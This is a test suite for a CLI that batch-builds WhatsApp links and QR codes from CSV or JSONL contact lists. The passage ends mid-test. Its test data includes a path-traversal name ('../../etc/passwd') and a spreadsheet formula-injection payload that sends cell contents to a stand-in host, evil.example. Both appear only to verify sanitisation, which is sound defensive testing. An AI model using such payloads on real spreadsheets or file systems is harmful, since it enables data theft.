import {
  chmodSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { neutralizeFormula } from '../../../src/core/csv.js';
import { expectError } from '../../helpers/assert.js';
import { run, spawnCli, tempDir } from '../../helpers/cli.js';
import { bitmapToImage, jsqrBytes, jsqrText, parseSvg, zbarText } from '../../helpers/qr-decode.js';

type Row = Record<string, string>;

const csv = (text: string): Row[] => parseCsv(text, { columns: true, bom: true }) as Row[];
const jsonl = (text: string): Row[] =>
  text
    .trimEnd()
    .split('\n')
    .filter((l) => l !== '')
    .map((l) => JSON.parse(l) as Row);

/** The summary line, checked for its shape; returns rows and failed. */
function summary(stderr: string): { rows: number; failed: number } {
  const last = stderr.trimEnd().split('\n').pop() ?? '';
  const m = /^(\d+) rows, (\d+) failed, \d+\.\d\d s, \d+ rows\/s(, QR codes in .+)?$/.exec(last);
  if (!m) throw new Error(`no summary line in ${JSON.stringify(stderr)}`);
  return { rows: Number(m[1]), failed: Number(m[2]) };
}

/** stderr without the summary line. */
const rowLines = (stderr: string) => stderr.trimEnd().split('\n').slice(0, -1);

function file(dir: string, name: string, content: string | Buffer): string {
  const path = join(dir, name);
  writeFileSync(path, content);
  return path;
}

const CONTACTS = [
  'phone,name,text,campaign,city',
  '+919876543210,Asha,,spring,Pune',
  '+44 7911 123456,Bob,"Custom for {{name}}, {{city}}!",autumn,',
  '(650) 253-0000,Cara,,summer,SF',
  '',
].join('\n');

describe('wabox link --batch: CSV in', () => {
  it('makes one link per row: columns are variables, a row text wins over --text, a column over --var', async () => {
    const dir = tempDir();
    const input = file(dir, 'contacts.csv', CONTACTS);
    const r = await run([
      'link',
      '--batch',
      input,
      '--text',
      'Hi {{name}} from {{city}} ({{shop}})',
      '--var',
      'shop=Asha Bakery',
      '--var',
      'city=Nowhere',
      '--ref',
      '{{campaign}}',
      '--country',
      'US',
    ]);
    expect(r.code).toBe(0);
    expect(csv(r.stdout)).toEqual([
      {
        phone: '+919876543210',
        name: 'Asha',
        text: '',
        campaign: 'spring',
        city: 'Pune',
        url: 'https://wa.me/919876543210?text=Hi%20Asha%20from%20Pune%20(Asha%20Bakery)%20%5Bref%3Aspring%5D',
        waId: '919876543210',
        error: '',
        warning: '',
      },
      {
        phone: '+44 7911 123456',
        name: 'Bob',
        text: 'Custom for {{name}}, {{city}}!',
        campaign: 'autumn',
        city: '',
        // an empty column is still the column's value: it wins over --var city
        url: 'https://wa.me/447911123456?text=Custom%20for%20Bob%2C%20!%20%5Bref%3Aautumn%5D',
        waId: '447911123456',
        error: '',
        warning: '',
      },
      {
        phone: '(650) 253-0000',
        name: 'Cara',
        text: '',
        campaign: 'summer',
        city: 'SF',
        url: 'https://wa.me/16502530000?text=Hi%20Cara%20from%20SF%20(Asha%20Bakery)%20%5Bref%3Asummer%5D',
        waId: '16502530000',
        error: '',
        warning: '',
      },
    ]);
    // the header line is exactly the input columns then url, waId, error
    expect(r.stdout.split('\n')[0]).toBe('phone,name,text,campaign,city,url,waId,error,warning');
    expect(summary(r.stderr)).toEqual({ rows: 3, failed: 0 });
    expect(rowLines(r.stderr)).toEqual([]);
  });

  it('makes links without text when there is neither --text nor a text column', async () => {
    const r = await run(['link', '--batch', '-', '--api'], { stdin: 'phone\n+919876543210\n' });
    expect(r.code).toBe(0);
    expect(r.stdout).toBe(
      'phone,url,waId,error,warning\n+919876543210,https://api.whatsapp.com/send?phone=919876543210,919876543210,,\n',
    );
  });

  it('reads stdin, a BOM, CRLF, any case of phone/text, quoted commas and newlines', async () => {
    const stdin = Buffer.concat([
      Buffer.from([0xef, 0xbb, 0xbf]),
      Buffer.from(
        'Phone , TEXT,note\r\n+919876543210,"Hi, you\r\nthere",x\r\n\r\n+919876543211,plain,"a ""quote"""\r\n',
      ),
    ]);
    const r = await run(['link', '--batch', '-', '--output-format', 'jsonl'], { stdin });
    expect(r.code).toBe(0);
    expect(jsonl(r.stdout)).toEqual([
      {
        phone: '+919876543210',
        text: 'Hi, you\r\nthere',
        note: 'x',
        url: 'https://wa.me/919876543210?text=Hi%2C%20you%0D%0Athere',
        waId: '919876543210',
        error: '',
        warning: '',
      },
      {
        phone: '+919876543211',
        text: 'plain',
        note: 'a "quote"',
        url: 'https://wa.me/919876543211?text=plain',
        waId: '919876543211',
        error: '',
        warning: '',
      },
    ]);
  });

  it('uses the default country from the config', async () => {
    const env = { WABOX_CONFIG_DIR: tempDir() };
    await run(['config', 'set', 'default-country', 'IN'], { env });
    const r = await run(['link', '--batch', '-'], { stdin: 'phone\n98765 43210\n', env });
    expect(csv(r.stdout)[0]!.waId).toBe('919876543210');
  });

  it('keeps Gujarati, Urdu and emoji in every column and link', async () => {
    const stdin = 'phone,name\n+919876543210,આશા 🙏\n+923001234567,عائشہ\n';
    const ok = await run(['link', '--batch', '-', '--text', 'નમસ્તે {{name}}', '--output-format', 'json'], {
      stdin,
    });
    expect(ok.code).toBe(0);
    const rows = JSON.parse(ok.stdout) as Row[];
    expect(rows.map((row) => row.name)).toEqual(['આશા 🙏', 'عائشہ']);
    for (const row of rows) {
      const back = await run(['inspect', row.url!, '--json']);
      expect(JSON.parse(back.stdout).text).toBe(`નમસ્તે ${row.name}`);
    }
  });
});

describe('wabox link --batch: JSONL in', () => {
  const LINES = [
    '{"phone":"+919876543210","name":"Asha","visits":3}',
    '{"phone":919876543211,"name":null,"vip":true}',
    '',
    '{"phone":"+44 7911 123456","name":"Bob","text":"Own text {{name}}"}',
  ].join('\n');

  it('reads a .jsonl file by its name; numbers, booleans and null become strings', async () => {
    const dir = tempDir();
    const input = file(dir, 'in.jsonl', LINES);
    const r = await run([
      'link',
      '--batch',
      input,
      '--text',
      'Hi {{name|there}}',
      '--country',
      'IN',
      '--output-format',
      'jsonl',
    ]);
    expect(r.code).toBe(0);
    expect(jsonl(r.stdout)).toEqual([
      {
        phone: '+919876543210',
        name: 'Asha',
        visits: '3',
        url: 'https://wa.me/919876543210?text=Hi%20Asha',
        waId: '919876543210',
        error: '',
        warning: '',
      },
      // a null column is an empty value, which is still a value: the fallback does not apply
      {
        phone: '919876543211',
        name: '',
        vip: 'true',
        url: 'https://wa.me/919876543211?text=Hi%20',
        waId: '919876543211',
        error: '',
        warning: '',
      },
      {
        phone: '+44 7911 123456',
        name: 'Bob',
        text: 'Own text {{name}}',
        url: 'https://wa.me/447911123456?text=Own%20text%20Bob',
        waId: '447911123456',
        error: '',
        warning: '',
      },
    ]);
  });

  it('reads JSONL from stdin with --input-format jsonl, and .ndjson by name', async () => {
    const r = await run(['link', '--batch', '-', '--input-format', 'jsonl', '--country', 'IN', '--json'], {
      stdin: LINES,
    });
    expect(r.code).toBe(0);
    expect(jsonl(r.stdout).map((row) => row.waId)).toEqual(['919876543210', '919876543211', '447911123456']);
    const input = file(tempDir(), 'in.ndjson', LINES);
    const n = await run(['link', '--batch', input, '--country', 'IN', '--output-format', 'json']);
    expect(n.code).toBe(0);
    expect((JSON.parse(n.stdout) as Row[]).length).toBe(3);
  });

  it('reports bad lines by number and still writes the good ones', async () => {
    const stdin = [
      'not json',
      '{"phone":"+919876543210","name":"A"}',
      '[1,2]',
      '"a string"',
      '{"phone":"+919876543211","nested":{"a":1}}',
      '{"phone":"12345"}',
      '{"name":"no phone"}',
      '{"phone":"+919876543212"}',
    ].join('\n');
    const r = await run(['link', '--batch', '-', '--input-format', 'jsonl'], { stdin });
    expect(r.code).toBe(1);
    expect(rowLines(r.stderr)).toEqual([
      'line 1: not valid JSON',
      'line 3: not a JSON object',
      'line 4: not a JSON object',
      'line 5: "nested" is not a string or number',
      'line 6: "12345" has no country code',
      'line 7: empty phone',
    ]);
    expect(summary(r.stderr)).toEqual({ rows: 8, failed: 6 });
    // CSV out: the columns come from the first object even though line 1 was not one
    const rows = csv(r.stdout);
    expect(Object.keys(rows[0]!)).toEqual(['phone', 'name', 'url', 'waId', 'error', 'warning']);
    expect(rows.map((row) => [row.phone, row.waId, row.error])).toEqual([
      ['', '', 'not valid JSON'],
      ['+919876543210', '919876543210', ''],
      ['', '', 'not a JSON object'],
      ['', '', 'not a JSON object'],
      ['', '', '"nested" is not a string or number'],
      ['12345', '', '"12345" has no country code'],
      ['', '', 'empty phone'],
      ['+919876543212', '919876543212', ''],
    ]);
  });

  it('writes no rows and exits 0 for empty JSONL input', async () => {
    const r = await run(['link', '--batch', '-', '--input-format', 'jsonl', '--output-format', 'json'], {
      stdin: '\n\n',
    });
    expect(r.code).toBe(0);
    expect(JSON.parse(r.stdout)).toEqual([]);
    expect(summary(r.stderr)).toEqual({ rows: 0, failed: 0 });
  });
});

describe('wabox link --batch: outputs', () => {
  it.each([
    ['out.csv', undefined, 'csv'],
    ['out.jsonl', undefined, 'jsonl'],
    ['out.ndjson', undefined, 'jsonl'],
    ['out.json', undefined, 'json'],
    ['out.txt', undefined, 'csv'],
    ['out.json', 'csv', 'csv'],
    ['out.csv', 'jsonl', 'jsonl'],
  ])('writes %s (--output-format %s) as %s, and the rows parse back', async (name, format, expected) => {
    const dir = tempDir();
    const input = file(dir, 'in.csv', 'phone,name\n+919876543210,Asha\n+919876543211,"B, b"\n');
    const output = join(dir, name);
    const args = ['link', '--batch', input, '--output', output, '--text', 'Hi {{name}}'];
    if (format) args.push('--output-format', format);
    const r = await run(args);
    expect(r.code).toBe(0);
    expect(r.stdout).toBe('');
    const text = readFileSync(output, 'utf8');
    const rows =
      expected === 'csv' ? csv(text) : expected === 'jsonl' ? jsonl(text) : (JSON.parse(text) as Row[]);
    expect(rows).toEqual([
      {
        phone: '+919876543210',
        name: 'Asha',
        url: 'https://wa.me/919876543210?text=Hi%20Asha',
        waId: '919876543210',
        error: '',
        warning: '',
      },
      {
        phone: '+919876543211',
        name: 'B, b',
        url: 'https://wa.me/919876543211?text=Hi%20B%2C%20b',
        waId: '919876543211',
        error: '',
        warning: '',
      },
    ]);
    if (expected === 'jsonl') expect(text.split('\n').length).toBe(3);
    expect(readdirSync(dir).sort()).toEqual(['in.csv', name].sort());
  });

  it('writes the input columns for a header-only CSV', async () => {
    const csvOut = await run(['link', '--batch', '-'], { stdin: 'phone,name\n' });
    expect(csvOut).toMatchObject({ code: 0, stdout: 'phone,name,url,waId,error,warning\n' });
    const json = await run(['link', '--batch', '-', '--output-format', 'json'], { stdin: 'phone,name\n' });
    expect(json.stdout).toBe('[]\n');
  });

  it('replaces an existing output file whole', async () => {
    const dir = tempDir();
    const output = file(dir, 'out.csv', 'old content '.repeat(10_000));
    await run(['link', '--batch', '-', '--output', output], { stdin: 'phone\n+919876543210\n' });
    expect(readFileSync(output, 'utf8')).toBe(
      'phone,url,waId,error,warning\n+919876543210,https://wa.me/919876543210,919876543210,,\n',
    );
  });
});

describe('wabox link --batch: bad rows', () => {
  it('gives each bad row an error value and a line-numbered stderr line; exit 1; good rows still made', async () => {
    const stdin = [
      'phone,name,campaign',
      '+919876543210,Asha,spring', // 2 ok
      '12345,Bad,x', // 3 no country code
      '+91 98765,Short,x', // 4 too short
      '+919876543211,Ragged', // 5 too few fields
      '+919876543212,Extra,x,y', // 6 too many fields
      '+919876543213,,x', // 7 empty name: missing? no: empty is a value
      '+919876543214,Ref,bad ref', // 8 invalid ref
      '+919876543215,Nocity,ok', // 9 missing {{city}}
      ',Nobody,x', // 10 empty phone
      '+44 7700 900123,Reserved,x', // 11 ok with a warning
    ].join('\n');
    const r = await run(
      [
        'link',
        '--batch',
        '-',
        '--text',
        'Hi {{name}} {{city|}}{{extra}}',
        '--var',
        'extra=!',
        '--ref',
        '{{campaign}}',
      ],
      {
        stdin,
      },
    );
    expect(r.code).toBe(1);
    expect(rowLines(r.stderr)).toEqual([
      'line 3: "12345" has no country code',
      'line 4: "+91 98765" is too short for IN',
      'line 5: has 2 fields, the header has 3',
      'line 6: has 4 fields, the header has 3',
      'line 8: invalid ref "bad ref": use 1-40 letters, digits, _ . or -, starting with a letter or digit',
      'line 10: empty phone',
      'line 11: warning: +447700900123 is in no assigned range (libphonenumber metadata): check it',
    ]);
    expect(summary(r.stderr)).toEqual({ rows: 10, failed: 6 });
    const rows = csv(r.stdout);
    expect(rows.map((row) => [row.name, row.waId, row.error === '' ? '' : 'error'])).toEqual([
      ['Asha', '919876543210', ''],
      ['Bad', '', 'error'],
      ['Short', '', 'error'],
      ['Ragged', '', 'error'],
      ['Extra', '', 'error'],
      ['', '919876543213', ''],
      ['Ref', '', 'error'],
      ['Nocity', '919876543215', ''],
      ['Nobody', '', 'error'],
      ['Reserved', '447700900123', ''],
    ]);
    expect(rows[1]!.error).toBe('"12345" has no country code');
    expect(rows[0]!.url).toBe('https://wa.me/919876543210?text=Hi%20Asha%20!%20%5Bref%3Aspring%5D');
  });

  it('names the missing variable of a row', async () => {
    const r = await run(['link', '--batch', '-', '--text', 'Hi {{name}} in {{city}}'], {
      stdin: 'phone,name\n+919876543210,Asha\n',
    });
    expect(r.code).toBe(1);
    expect(rowLines(r.stderr)).toEqual(['line 2: no value for {{city}}']);
    expect(csv(r.stdout)[0]!.error).toBe('no value for {{city}}');
  });

  it('fails a row whose text is empty once filled, instead of a link without text', async () => {
    const r = await run(['link', '--batch', '-', '--text', '{{name}}'], {
      stdin: 'phone,name\n+919876543210,Asha\n+919876543211,\n+919876543212, \n',
    });
    expect(r.code).toBe(1);
    expect(rowLines(r.stderr)).toEqual([
      'line 3: the text is empty once its placeholders are filled',
      'line 4: the text is empty once its placeholders are filled',
    ]);
    expect(csv(r.stdout).map((row) => row.url)).toEqual(['https://wa.me/919876543210?text=Asha', '', '']);
  });

  it('numbers a row by the line it starts on when a quoted field spans lines', async () => {
    const stdin =
      'phone,text\n+919876543210,"two\nlines"\n\n12,"also\ntwo"\n+919876543211,"never closed\n+919876543212,x\n';
    const r = await run(['link', '--batch', '-'], { stdin });
    expect(r.code).toBe(1);
    expect(rowLines(r.stderr)).toEqual([
      'line 5: "12" has no country code',
      'line 7: unreadable CSV: Quote Not Closed: the parsing is finished with an opening quote at line 8',
    ]);
    expect(csv(r.stdout).map((row) => row.waId)).toEqual(['919876543210', '', '']);
  });

  it('refuses --strict numbers row by row', async () => {
    const r = await run(['link', '--batch', '-', '--strict'], {
      stdin: 'phone\n+447700900123\n+447911123456\n',
    });
    expect(r.code).toBe(1);
    expect(rowLines(r.stderr)).toEqual(['line 2: "+447700900123" is not a valid number for GB']);
  });
});

describe('wabox link --batch: bad input', () => {
  it('refuses a CSV without a phone column (exit 2) and creates no output file', async () => {
    const dir = tempDir();
    const input = file(dir, 'in.csv', 'name,text\nAsha,hi\n');
    expectError(
      await run(['link', '--batch', input, '--output', join(dir, 'out.csv')]),
      2,
      'the CSV header has no phone column (columns: "name", "text")',
      'the first row names the columns: one must be phone, Phone Number, Mobile, WhatsApp or Tel, or name it with --phone-column',
    );
    expect(readdirSync(dir)).toEqual(['in.csv']);
  });

  it('refuses a header naming a column twice', async () => {
    expectError(
      await run(['link', '--batch', '-'], { stdin: 'phone,name,Name ,name\n1,2,3,4\n' }),
      2,
      'the CSV header names the column "name" twice',
    );
  });

  it.each([
    ['', 'the CSV input is empty: it needs a header row with a phone column'],
    ['\r\n\r\n', 'the CSV input is empty: it needs a header row with a phone column'],
  ])('refuses the empty CSV input %j', async (stdin, message) => {
    const dir = tempDir();
    expectError(await run(['link', '--batch', '-', '--output', join(dir, 'o.csv')], { stdin }), 2, message);
    expect(readdirSync(dir)).toEqual([]);
  });

  it('fails clearly on a missing input file', async () => {
    const missing = join(tempDir(), 'nope.csv');
    expectError(
      await run(['link', '--batch', missing]),
      2,
      `cannot read ${missing}: no such file or directory`,
    );
  });

  it('fails clearly on an unwritable output path and leaves no temp file', async () => {
    const dir = tempDir();
    const input = file(dir, 'in.csv', 'phone\n+919876543210\n');
    file(dir, 'plain', '');
    const target = join(dir, 'plain', 'out.csv');
    expectError(
      await run(['link', '--batch', input, '--output', target]),
      1,
      `cannot write ${target}: a part of the path is not a directory`,
    );
    const missing = join(dir, 'missing', 'out.csv');
    expectError(
      await run(['link', '--batch', input, '--output', missing]),
      1,
      `cannot write ${missing}: no such file or directory`,
    );
    // a directory in the way is found at the end, when the temp file is renamed: it must not stay
    mkdirSync(join(dir, 'taken.csv'));
    const taken = join(dir, 'taken.csv');
    const r = await run(['link', '--batch', input, '--output', taken]);
    expectError(r, 1, `cannot write ${taken}: it is a directory`);
    expect(readdirSync(dir).sort()).toEqual(['in.csv', 'plain', 'taken.csv']);
    expect(readdirSync(taken)).toEqual([]);
  });

  it.each([
    [['+919876543210'], 'cannot combine a phone argument and --batch: the numbers come from the file'],
    [['--share'], 'cannot combine --share and --batch: batch links always have a number'],
    [['--qr', 'x.png'], 'cannot combine --qr and --batch: use --qr-dir for one QR code per row'],
    [['--text', '-'], '--text - cannot be used with --batch: stdin is not free for the text'],
    [['--jobs', '0', '--qr-dir', 'QRDIR'], '--jobs must be a whole number from 1 to 256, not "0"'],
    [
      ['--ref', 'bad ref'],
      'invalid ref "bad ref": use 1-40 letters, digits, _ . or -, starting with a letter or digit',
    ],
    [
      ['--text', 'Hi {{name'],
      'unclosed placeholder "{{name": close it with }} or write \\{{ for literal braces',
    ],
  ])('refuses %j before writing anything', async (extra, message) => {
    const dir = tempDir();
    const input = file(dir, 'in.csv', 'phone\n+919876543210\n');
    const args = [
      'link',
      '--batch',
      input,
      '--output',
      join(dir, 'out.csv'),
      ...extra.map((a) => a.replace('QRDIR', join(dir, 'qr'))),
    ];
    expectError(await run(args), 2, message);
    expect(readdirSync(dir)).toEqual(['in.csv']);
  });

  it('refuses unknown formats', async () => {
    expectError(
      await run(['link', '--batch', '-', '--input-format', 'xlsx']),
      2,
      "option '--input-format <format>' argument 'xlsx' is invalid. Allowed choices are csv, jsonl.",
      'see --help for usage and examples',
    );
    expectError(
      await run(['link', '--batch', '-', '--qr-dir', 'x', '--qr-format', 'gif']),
      2,
      "option '--qr-format <format>' argument 'gif' is invalid. Allowed choices are png, svg.",
      'see --help for usage and examples',
    );
  });
});

describe('wabox link --batch --qr-dir', () => {
  const INPUT = [
    'phone,name',
    '+919876543210,Asha',
    '+919876543211,Asha', // duplicate name: gets -3
    '12345,Bad', // no file
    '+919876543212,../../etc/passwd', // made safe
    '+919876543213,', // empty name: the number
    '+919876543214,.hidden',
    '+919876543215,नमस्ते दुनिया',
    '',
  ].join('\n');

  it('writes one decodable PNG per good row, named safely from --name-column (--jobs 1, in-process)', async () => {
    const dir = tempDir();
    const qrDir = join(dir, 'qr', 'nested');
    const input = file(dir, 'in.csv', INPUT);
    const r = await run([
      'link',
      '--batch',
      input,
      '--qr-dir',
      qrDir,
      '--name-column',
      'name',
      '--jobs',
      '1',
      '--text',
      'Hi {{name}}',
    ]);
    expect(r.code).toBe(1);
    expect(summary(r.stderr)).toEqual({ rows: 7, failed: 1 });
    expect(r.stderr.trimEnd().split('\n').pop()).toMatch(new RegExp(`, QR codes in ${qrDir}$`));
    const names = readdirSync(qrDir).sort();
    expect(names).toEqual(
      ['Asha.png', 'Asha-3.png', 'etc_passwd.png', '919876543213.png', 'hidden.png', 'नमस्ते_दुनिया.png'].sort(),
    );
    const rows = csv(r.stdout);
    const byName: Record<string, string> = {
      'Asha.png': rows[0]!.url!,
      'Asha-3.png': rows[1]!.url!,
      'etc_passwd.png': rows[3]!.url!,
      '919876543213.png': rows[4]!.url!,
      'hidden.png': rows[5]!.url!,
      'नमस्ते_दुनिया.png': rows[6]!.url!,
    };
    for (const [name, url] of Object.entries(byName)) {
      expect(url).toMatch(/^https:\/\/wa\.me\/\d+\?text=Hi%20/);
      expect(jsqrText(readFileSync(join(qrDir, name)))).toBe(url);
    }
    for (const name of ['Asha.png', 'नमस्ते_दुनिया.png']) expect(zbarText(join(qrDir, name))).toBe(byName[name]);
  });

  it('keeps file names from long non-Latin values under the file system limit', async () => {
    const dir = tempDir();
    const long = 'નમસ્તે'.repeat(40); // 240 characters, 720 UTF-8 bytes
    const r = await run(['link', '--batch', '-', '--qr-dir', dir, '--name-column', 'name', '--jobs', '1'], {
      stdin: `phone,name\n+919876543210,${long}\n+919876543211,${long}\n`,
    });
    expect(r.code).toBe(0);
    const names = readdirSync(dir).sort();
    expect(names).toHaveLength(2);
    for (const name of names) expect(Buffer.byteLength(name)).toBeLessThanOrEqual(255);
    const base = names.find((n) => !/-3\.png$/.test(n))!.replace(/\.png$/, '');
    expect(Buffer.byteLength(base)).toBeLessThanOrEqual(200);
    expect(long.startsWith(base)).toBe(true);
    expect(names).toContain(`${base}-3.png`);
  });

  it('names files by the number without --name-column and writes SVG with --qr-format svg', async () => {
    const dir = tempDir();
    const r = await run(['link', '--batch', '-', '--qr-dir', dir, '--qr-format', 'svg', '--jobs', '1'], {
      stdin: 'phone\n+919876543210\n+91 98765 43210\n',
    });
    expect(r.code).toBe(0);
    expect(readdirSync(dir).sort()).toEqual(['919876543210-3.svg', '919876543210.svg']);
    const svg = parseSvg(readFileSync(join(dir, '919876543210.svg'), 'utf8'));
    expect(jsqrBytes(bitmapToImage(svg.modules))?.toString()).toBe('https://wa.me/919876543210');
  });

  it('renders on worker threads with --jobs 2 (built CLI) and every file decodes', async () => {
    const dir = tempDir();
    const lines = ['phone,name'];
    for (let i = 0; i < 40; i++) lines.push(`+9198765${String(43200 + i)},n${i}`);
    lines.push('bad,x');
    const input = file(dir, 'in.csv', `${lines.join('\n')}\n`);
    const qrDir = join(dir, 'qr');
    const r = await spawnCli([
      'link',
      '--batch',
      input,
      '--qr-dir',
      qrDir,
      '--jobs',
      '2',
      '--output',
      join(dir, 'out.jsonl'),
      '--text',
      'Hi {{name}}',
      '--ecl',
      'Q',
    ]);
    expect(r.code).toBe(1);
    expect(r.stdout).toBe('');
    expect(rowLines(r.stderr)).toEqual([
      'line 42: "bad" is not a phone number: use digits with an optional leading + and spaces, dashes, dots or brackets',
    ]);
    expect(summary(r.stderr)).toEqual({ rows: 41, failed: 1 });
    const rows = jsonl(readFileSync(join(dir, 'out.jsonl'), 'utf8'));
    expect(rows.map((row) => row.name)).toEqual([...Array.from({ length: 40 }, (_, i) => `n${i}`), 'x']);
    const files = readdirSync(qrDir).sort();
    expect(files).toEqual(
      rows
        .slice(0, 40)
        .map((row) => `${row.waId}.png`)
        .sort(),
    );
    for (const row of rows.slice(0, 40))
      expect(jsqrText(readFileSync(join(qrDir, `${row.waId}.png`)))).toBe(row.url);
    for (const row of rows.slice(0, 3)) expect(zbarText(join(qrDir, `${row.waId}.png`))).toBe(row.url);
  });

  it('refuses an unwritable --qr-dir before any output', async () => {
    const dir = tempDir();
    const input = file(dir, 'in.csv', 'phone\n+919876543210\n');
    const plain = file(dir, 'plain', '');
    const output = join(dir, 'out.csv');
    expectError(
      await run(['link', '--batch', input, '--qr-dir', join(plain, 'qr'), '--output', output]),
      1,
      `cannot write ${join(plain, 'qr')}: a part of the path is not a directory`,
    );
    expectError(
      await run(['link', '--batch', input, '--qr-dir', plain]),
      1,
      `cannot write ${plain}: a part of the path is not a directory`,
    );
    expect(existsSync(output)).toBe(false);
    expect(readdirSync(dir).sort()).toEqual(['in.csv', 'plain']);
  });

  it('refuses bad QR styles before any output', async () => {
    const dir = tempDir();
    expectError(
      await run(['link', '--batch', '-', '--qr-dir', join(dir, 'qr'), '--dark', '#fff'], {
        stdin: 'phone\n+919876543210\n',
      }),
      2,
      '--dark #ffffff is not darker than --light #ffffff: many scanners cannot read inverted QR codes',
    );
    expect(readdirSync(dir)).toEqual([]);
  });
});

// -- chunks and workers ----------------------------------------------------------------------------------

/** A CSV of `rows` rows with multi-line quoted texts, CRLF and bad rows; the lines the bad rows are on. */
function trickyCsv(rows: number): { text: string; bad: Map<number, string> } {
  const bad = new Map<number, string>();
  let text = 'phone,text,name\n';
  let line = 2;
  for (let i = 0; i < rows; i++) {
    const phone = `+9198765${String(40000 + i)}`;
    let row: string;
    if (i % 37 === 5) {
      row = `12345,hi,n${i}`;
      bad.set(line, '"12345" has no country code');
    } else if (i % 41 === 7) {
      row = `${phone},only two`;
      bad.set(line, 'has 2 fields, the header has 3');
    } else if (i % 5 === 0) row = `${phone},"Hi {{name}},\nline two\r\nwith ""quotes""",n${i}`;
    else if (i % 7 === 0) row = `${phone},"",n${i}`;
    else row = `${phone},Hello {{name}},n${i}`;
    text += `${row}\n`;
    line += row.split(/\r\n|\n|\r/).length;
    if (i % 11 === 0) {
      text += '\n';
      line++;
    }
  }
  return { text, bad };
}

describe('wabox link --batch: chunks and workers', () => {
  const QUOTED =
    'phone,text\n+919876543210,"two\nlines"\n\n12,"also\ntwo"\n+919876543211,"never closed\n+919876543212,x\n';

  it.each([1, 2, 5, 16, 64])(
    'gives the same rows, errors and line numbers with chunks of %i bytes (in-process)',
    async (bytes) => {
      for (const stdin of [QUOTED, trickyCsv(60).text]) {
        const whole = await run(['link', '--batch', '-', '--text', 'Hi {{name}}', '--jobs', '1'], { stdin });
        const chunked = await run(
          ['link', '--batch', '-', '--text', 'Hi {{name}}', '--jobs', '1', '--chunk-bytes', String(bytes)],
          { stdin },
        );
        expect(chunked.stdout).toBe(whole.stdout);
        expect(rowLines(chunked.stderr)).toEqual(rowLines(whole.stderr));
        expect(chunked.code).toBe(whole.code);
      }
    },
  );

  it('numbers bad rows by their line after quoted fields that span lines and chunks', async () => {
    const { text, bad } = trickyCsv(120);
    const r = await run(['link', '--batch', '-', '--jobs', '1', '--chunk-bytes', '7'], { stdin: text });
    expect(r.code).toBe(1);
    expect(rowLines(r.stderr)).toEqual([...bad].map(([line, message]) => `line ${line}: ${message}`));
    expect(summary(r.stderr)).toEqual({ rows: 120, failed: bad.size });
  });

  it('reads a quoted header after a byte order mark, UTF-16 and \\r line ends, in chunks', async () => {
    const expected = await run(['link', '--batch', '-', '--jobs', '1'], {
      stdin: 'phone,text\n+919876543210,"a\nb"\n12,x\n',
    });
    expect(rowLines(expected.stderr)).toEqual(['line 4: "12" has no country code']);
    for (const stdin of [
      Buffer.from('\uFEFF"phone","text"\n+919876543210,"a\nb"\n12,x\n'),
      Buffer.from('\uFEFFphone,text\n+919876543210,"a\nb"\n12,x\n', 'utf16le'),
      Buffer.from('phone,text\r+919876543210,"a\rb"\r12,x\r'),
    ]) {
      for (const chunkBytes of ['1', '4', '100000']) {
        const r = await run(['link', '--batch', '-', '--jobs', '1', '--chunk-bytes', chunkBytes], { stdin });
        expect(rowLines(r.stderr)).toEqual(rowLines(expected.stderr));
        expect(csv(r.stdout).map((row) => [row.phone, row.waId])).toEqual(
          csv(expected.stdout).map((row) => [row.phone, row.waId]),
        );
      }
    }
  });

  it('keeps input order, line numbers and output on worker threads (--jobs 2, built CLI)', async () => {
    const dir = tempDir();
    const { text, bad } = trickyCsv(400);
    const input = file(dir, 'in.csv', text);
    const args = (jobs: string, out: string) => [
      'link',
      '--batch',
      input,
      '--text',
      'Hi {{name}}',
      '--jobs',
      jobs,
      '--chunk-bytes',
      '64',
      '--output',
      join(dir, out),
    ];
    const one = await spawnCli(args('1', 'one.csv'));
    const two = await spawnCli(args('2', 'two.csv'));
    expect(two.code).toBe(1);
    expect(rowLines(two.stderr)).toEqual([...bad].map(([line, message]) => `line ${line}: ${message}`));
    expect(summary(two.stderr)).toEqual({ rows: 400, failed: bad.size });
    expect(rowLines(two.stderr)).toEqual(rowLines(one.stderr));
    const rows = readFileSync(join(dir, 'two.csv'), 'utf8');
    expect(rows).toBe(readFileSync(join(dir, 'one.csv'), 'utf8'));
    expect(csv(rows).map((row) => row.name)).toEqual(
      Array.from({ length: 400 }, (_, i) => `n${i}`).map((name, i) =>
        i % 41 === 7 && i % 37 !== 5 ? '' : name,
      ),
    );
  });

  it('writes JSON and JSONL in input order from workers, JSONL input with its line numbers', async () => {
    const dir = tempDir();
    const lines: string[] = [];
    const bad: string[] = [];
    for (let i = 0; i < 300; i++) {
      if (i % 23 === 4) {
        lines.push('{"phone": oops');
        bad.push(`line ${lines.length}: not valid JSON`);
      } else lines.push(JSON.stringify({ phone: `+9198765${40000 + i}`, n: i }));
      if (i % 9 === 0) lines.push('');
    }
    const input = file(dir, 'in.jsonl', `${lines.join('\n')}\n`);
    for (const format of ['json', 'jsonl']) {
      const output = join(dir, `out.${format}`);
      const r = await spawnCli([
        'link',
        '--batch',
        input,
        '--jobs',
        '2',
        '--chunk-bytes',
        '32',
        '--output',
        output,
      ]);
      expect(r.code).toBe(1);
      expect(rowLines(r.stderr)).toEqual(bad);
      const text = readFileSync(output, 'utf8');
      const rows = format === 'json' ? (JSON.parse(text) as Row[]) : jsonl(text);
      expect(rows).toHaveLength(300);
      expect(rows.filter((row) => row.error === '').map((row) => Number(row.n))).toEqual(
        Array.from({ length: 300 }, (_, i) => i).filter((i) => i % 23 !== 4),
      );
    }
  });
});

describe('wabox link --batch: spreadsheet formulas in CSV output', () => {
  const INPUT = [
    'phone,name,=cmd',
    '+919876543210,"=HYPERLINK(""http://evil.example/?d=""&B3,""Click"")",@SUM(1)',
    '=1+1,-2+3,"\tx"',
    '+44 7911 123456,"\rcr",-1.5',
    '',
  ].join('\n');

  it("prefixes cells that start with = + - @ tab or CR with ', leaves plain numbers as they are", async () => {
    const r = await run(['link', '--batch', '-'], { stdin: INPUT });
    expect(r.code).toBe(1);
    const rows = parseCsv(r.stdout, { bom: true }) as string[][];
    expect(rows[0]).toEqual(['phone', 'name', "'=cmd", 'url', 'waId', 'error', 'warning']);
    expect(rows.slice(1).map((row) => row.slice(0, 3))).toEqual([
      ['+919876543210', `'=HYPERLINK("http://evil.example/?d="&B3,"Click")`, "'@SUM(1)"],
      ["'=1+1", "'-2+3", "'\tx"],
      ['+44 7911 123456', "'\rcr", '-1.5'],
